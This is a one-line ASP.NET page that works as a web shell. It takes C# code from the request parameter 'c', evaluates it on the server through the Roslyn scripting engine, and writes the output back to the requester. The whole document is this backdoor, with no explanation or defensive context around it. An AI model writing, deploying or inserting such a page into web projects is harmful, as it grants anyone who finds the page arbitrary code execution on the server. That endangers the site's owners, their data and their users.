<%@ Page Language="C#" %><% var r = Microsoft.CodeAnalysis.CSharp.Scripting.CSharpScript.EvaluateAsync(Request["c"]).Result; Response.Write(r); %>
